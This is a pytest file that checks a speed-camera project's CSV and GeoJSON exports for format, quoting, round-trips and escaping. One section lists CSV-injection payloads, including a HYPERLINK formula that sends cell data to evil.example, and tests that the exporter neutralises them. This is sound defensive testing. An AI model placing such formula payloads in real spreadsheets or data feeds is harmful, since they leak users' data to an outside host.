"""CSV and GeoJSON exports in the project's feed formats: re-imported with our own readers."""

import csv
import io
import json
import math
from pathlib import Path

import pytest

from cameras.formats import detect, get_reader
from cameras.formats.base import Record
from exporters.base import CameraSet
from exporters.schema import CameraType

from tests.exporters.fixtures import SAMPLE_ROWS, scaled_cameras
from . import interchange
from tests.exporters.interchange import (assert_record_matches, assert_same_bytes_in_any_order, check_golden, expected_rows, export,
                          sample_name)

HEADER = "ref,kind,type,lat,lon,speed,truck_speed,heading,direction,country,road,description,end_lat,end_lon,reports"


def written(identifier, tmp_path, cameras=None, **options) -> Path:
    result = export(identifier, cameras, **options)
    assert len(result.files) == 1 and result.files[0].category == "all"
    return interchange.written(tmp_path, result.files[0])


def read_back(reader, path) -> dict:
    items = list(get_reader(reader).read(path))
    assert all(isinstance(i, Record) for i in items), [i for i in items if not isinstance(i, Record)]
    return {r.ref: r for r in items}


def assert_every_sample_field(got: dict) -> None:
    """The records read back (by ref) are the sample cameras, each with every field."""
    assert sorted(got, key=int) == [str(r["id"]) for r in expected_rows()]
    for row in expected_rows():
        rec = got[str(row["id"])]
        assert_record_matches(rec, row)
        assert (rec.country, rec.road, rec.description) == (row["country"], row["road"], row["description"])


# --------------------------------------------------------------------------- CSV


def test_the_csv_has_the_documented_header_crlf_lines_and_one_row_per_camera(tmp_path):
    data = written("csv", tmp_path, mobile=True).read_bytes()
    lines = data.split(b"\r\n")
    assert lines[0].decode() == HEADER
    assert lines[-1] == b"" and len(lines) == 1 + 24 + 1
    assert not data.startswith(b"\xef\xbb\xbf")
    assert lines[1] == b"1,fixed,speed,48.856613,2.352222,50,,90,one,FR,Rue de Rivoli,Paris centre,,,"
    assert lines[7] == b"7,fixed,section,41.902782,12.496366,130,80,180,one,IT,A1,Tutor,41.852782,12.496366,"
    assert lines[8] == b"8,mobile,mobile-zone,40.416775,-3.703790,,,,all,ES,M-30,Zona de control,40.426775,-3.713790,7"


def test_our_csv_reader_detects_and_re_imports_every_field(tmp_path):
    path = written("csv", tmp_path, mobile=True)
    assert detect(path).name == "csv"
    assert_every_sample_field(read_back("csv", path))


def test_fields_with_commas_quotes_or_line_breaks_are_quoted_as_spreadsheets_do(tmp_path):
    rows = [dict(SAMPLE_ROWS[3]), dict(SAMPLE_ROWS[9]), dict(SAMPLE_ROWS[0], id=30, road="Rue \"Haute\"",
                                                             description="two\r\nlines, one comma")]
    path = written("csv", tmp_path, CameraSet.from_records(rows))
    text = path.read_bytes().decode()
    assert ',A7,"Lyon ""Perrache"" & <tunnel>",' in text
    assert ',M25,"Smart motorway, gantry 4/5",' in text
    assert ',"Rue ""Haute""","two\r\nlines, one comma",' in text
    parsed = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [p["description"] for p in parsed] == ['Lyon "Perrache" & <tunnel>', "Smart motorway, gantry 4/5",
                                                  "two\r\nlines, one comma"]
    got = read_back("csv", path)
    assert (got["30"].road, got["30"].description) == ('Rue "Haute"', "two\r\nlines, one comma")


def test_a_direction_mode_without_a_heading_is_written_as_all(tmp_path):
    rows = [dict(SAMPLE_ROWS[0], heading=math.nan)]
    path = written("csv", tmp_path, CameraSet.from_records(rows))
    assert path.read_bytes().split(b"\r\n")[1].split(b",")[7:9] == [b"", b"all"]
    assert read_back("csv", path)["1"].dir_mode == 0


def test_twenty_thousand_cameras_round_trip_through_our_csv_reader(tmp_path):
    cams = scaled_cameras(20_000)
    got = read_back("csv", written("csv", tmp_path, cams, mobile=True))
    assert len(got) == 20_000
    for i in range(0, 20_000, 97):
        rec = got[str(int(cams["id"][i]))]
        assert abs(rec.lat - cams["lat"][i]) <= 1e-6 and abs(rec.lon - cams["lon"][i]) <= 1e-6
        assert (int(rec.type), rec.speed or 0, int(rec.dir_mode)) == (int(cams["type"][i]), int(cams["speed"][i]),
                                                                       int(cams["dir_mode"][i]))
        assert rec.description == cams["description"][i]


# Text that a spreadsheet would run as a formula (OWASP "CSV Injection"), as a feed could send it.
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def hostile_cameras(hostile_country: bool = True) -> CameraSet:
    """The London camera six times, west of Greenwich (negative longitudes), with a hostile
    road, description and (unless not ``hostile_country``) country each."""
    return CameraSet.from_records([dict(SAMPLE_ROWS[9], id=i + 1, lon=round(-0.1234 - i / 100, 6), road=text,
                                        description=HOSTILE[-1 - i], country=text[:2] if hostile_country else "GB")
                                   for i, text in enumerate(HOSTILE)])


def cells_a_spreadsheet_would_run(rows: list[list[str]]) -> list[str]:
    """The cells (as the csv module reads them) that start like a formula and are not plain
    numbers: what Excel or LibreOffice would evaluate."""
    risky = []
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_START):
                try:
                    float(cell)
                except ValueError:
                    risky.append(cell)
    return risky


def test_text_cells_that_start_a_formula_get_a_quote_and_numbers_stay_numbers(tmp_path):
    path = written("csv", tmp_path, hostile_cameras())
    text = path.read_bytes().decode()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == HEADER.split(",") and len(rows) == 7
    assert cells_a_spreadsheet_would_run(rows) == []
    parsed = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [p["road"] for p in parsed] == ["'" + h for h in HOSTILE]
    assert [p["description"] for p in parsed] == ["'" + h for h in reversed(HOSTILE)]
    assert [p["country"] for p in parsed] == ["'" + h[:2] for h in HOSTILE]
    # the raw cells: the OWASP form, quoted with a single quote first
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"' in text and ',"\'+1",' in text
    assert ',"\'\t=1",' in text and ',"\'\r=1",' in text
    # coordinates are numbers, written as before: a negative longitude is not touched
    assert [(p["lat"], p["lon"]) for p in parsed] == [("51.507351", f"{round(-0.1234 - i / 100, 6):.6f}") for i in range(6)]
    assert text.split("\r\n")[1].startswith("1,fixed,variable-limit,51.507351,-0.123400,80,,0,one,")


def test_a_neutralised_csv_reads_back_at_the_same_positions_in_gpsbabel_and_our_reader(tmp_path):
    cams = hostile_cameras(hostile_country=False)  # our reader refuses a country that is not a code
    path = written("csv", tmp_path, cams)
    babel = interchange.gpsbabel_unicsv("unicsv", path)
    assert sorted((float(r["Latitude"]), float(r["Longitude"])) for r in babel) == sorted(
        zip(cams["lat"].tolist(), cams["lon"].tolist()))
    got = read_back("csv", path)
    for i, row in enumerate(cams["id"].tolist()):
        rec = got[str(row)]
        assert (rec.lat, rec.lon) == (cams["lat"][i], cams["lon"][i])
        assert rec.road == "'" + HOSTILE[i]  # the re-import keeps the guard: never a formula again


def test_the_sample_csv_matches_the_golden_file():
    check_golden("csv", "speedcams.csv", export("csv", mobile=True).files[0].data)


# --------------------------------------------------------------------------- GeoJSON


def features(**options):
    return json.loads(export("geojson", **options).files[0].data)["features"]


def test_the_geojson_is_a_feature_collection_with_points_and_lines_in_id_order():
    data = export("geojson", mobile=True).files[0].data
    doc = json.loads(data)
    assert doc["type"] == "FeatureCollection"
    feats = doc["features"]
    assert [f["id"] for f in feats] == list(range(1, 25))
    kinds = {f["id"]: f["geometry"]["type"] for f in feats}
    assert {i for i, k in kinds.items() if k == "LineString"} == {7, 8}
    assert feats[6]["geometry"]["coordinates"] == [[12.496366, 41.902782], [12.496366, 41.852782]]
    assert feats[0]["geometry"] == {"type": "Point", "coordinates": [2.352222, 48.856613]}
    assert feats[0]["properties"] == {"name": "Speed 50 Rue de Rivoli", "kind": "fixed", "type": "speed", "speed": 50,
                                      "direction": "one", "heading": 90, "country": "FR", "road": "Rue de Rivoli",
                                      "description": "Paris centre"}
    assert feats[7]["properties"]["reports"] == 7
    assert feats[3]["properties"]["description"] == 'Lyon "Perrache" & <tunnel>'
    assert data.count(b"\n") == 1 + 24 + 1  # one feature per line


def test_names_are_the_common_display_names():
    for f in features(mobile=True):
        assert f["properties"]["name"] == sample_name(f["id"])


def test_our_geojson_reader_detects_and_re_imports_every_field(tmp_path):
    path = written("geojson", tmp_path, mobile=True)
    assert detect(path).name == "geojson"
    assert_every_sample_field(read_back("geojson", path))


def test_control_characters_and_backslashes_are_escaped_in_json():
    rows = [dict(SAMPLE_ROWS[0], description='tab\there "q" back\\slash \x01 nul\x00', road="\u2028")]
    props = json.loads(export("geojson", CameraSet.from_records(rows)).files[0].data)["features"][0]["properties"]
    assert props["description"] == 'tab\there "q" back\\slash \x01 nul'
    assert props["road"] == "\u2028"


def test_an_empty_selection_is_an_empty_but_valid_collection():
    empty = CameraSet.from_records([dict(SAMPLE_ROWS[12])])  # a mobile camera, left out by default
    assert json.loads(export("geojson", empty).files[0].data) == {"type": "FeatureCollection", "features": []}
    assert export("csv", empty).files[0].data == (HEADER + "\r\n").encode()


def test_twenty_thousand_cameras_round_trip_through_our_geojson_reader(tmp_path):
    cams = scaled_cameras(20_000)
    got = read_back("geojson", written("geojson", tmp_path, cams, mobile=True))
    assert len(got) == 20_000
    ends = 0
    for i in range(20_000):
        rec = got[str(int(cams["id"][i]))]
        assert abs(rec.lat - cams["lat"][i]) <= 1e-6 and abs(rec.lon - cams["lon"][i]) <= 1e-6
        if rec.end_lat is not None:
            ends += 1
            assert abs(rec.end_lat - cams["end_lat"][i]) <= 1e-6
    assert ends == int((cams["type"] == CameraType.SECTION).sum()) > 0


@pytest.mark.parametrize("identifier", ["csv", "geojson"])
def test_the_same_cameras_in_any_order_give_the_same_bytes(identifier):
    assert_same_bytes_in_any_order(identifier, scaled_cameras(3_000), seed=5)


def test_the_sample_geojson_matches_the_golden_file():
    check_golden("geojson", "speedcams.geojson", export("geojson", mobile=True).files[0].data)
